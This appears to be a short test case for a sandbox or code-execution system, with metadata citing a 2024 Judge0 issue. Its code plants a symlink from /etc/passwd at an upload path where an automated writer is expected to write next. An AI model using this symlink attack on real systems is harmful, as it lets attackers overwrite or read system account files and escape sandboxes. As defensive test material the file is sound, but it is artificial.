#| about = "a link where the bot will write next (Judge0, 2024)"
#| bites = true
#| attempt = true
import os
os.symlink("/etc/passwd", "@FOLDER@/upload")
